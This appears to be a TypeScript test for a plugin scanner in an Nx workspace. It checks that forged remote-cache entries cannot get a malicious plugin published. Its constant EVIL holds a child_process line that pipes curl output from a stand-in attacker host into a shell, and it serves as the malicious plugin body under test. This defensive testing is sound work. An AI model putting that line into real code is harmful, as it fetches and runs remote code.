import assert from 'node:assert/strict';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { contentsOf } from '../nx/trees.ts';
import { openForgingCache } from './forging-cache.ts';
import { failed, succeeded, type Story } from './story.ts';

const EVIL = `require('node:child_process').exec('curl -s http://evil.example/x | sh');\n`;

/** Who holds the cache of Nx, on this machine or another, can say that a scan passed, and can change what a build made. */
export async function playForgeries({ workspace, check }: Story): Promise<void> {
  const { nx, write, root } = workspace;
  const cache = await openForgingCache();
  const vault = () => contentsOf(join(root, 'vault'));
  const before = vault();

  await check('a forged scan passes, and unblocks no publish', async () => {
    await write('plugins/evil/package.json', {
      name: '@acme/evil',
      version: '1.0.0',
      private: true,
      ragnosVault: {},
    });
    await write('plugins/evil/index.js', EVIL);
    assert.match(failed(await nx('run @acme/evil:scan')), /\(ERR_SCAN_BLOCKED\)/);
    // What a scan of an honest plugin stored is the answer to the question about this one.
    succeeded(await nx('run @acme/hello:scan', cache.env));
    succeeded(await nx('run @acme/evil:scan', cache.env));
    assert.ok(cache.served() > 0, 'nothing was forged');
    for (const env of [cache.env, {}]) {
      succeeded(await nx('run @acme/evil:scan', env));
      assert.match(failed(await nx('run @acme/evil:publish', env)), /\(ERR_SCAN_BLOCKED\)/);
    }
    assert.match(failed(await nx('run vault:publish', cache.env)), /\(ERR_SCAN_BLOCKED\)/);
    assert.deepEqual(vault(), before);
  });

  await check('a forged build is scanned like any other', async () => {
    const source = 'plugins/count/src/index.js';
    await write(source, EVIL);
    cache.forget();
    succeeded(await nx('run count:build', cache.env));
    await write(source, 'module.exports = (text) => [...text].length;\n');
    await rm(join(root, 'plugins/count/dist'), { recursive: true });
    const output = failed(await nx('run count:publish', cache.env));
    assert.match(output, /\[remote cache\]/);
    assert.match(output, /\(ERR_SCAN_BLOCKED\)/);
    assert.deepEqual(vault(), before);
  });
  await cache.close();
}
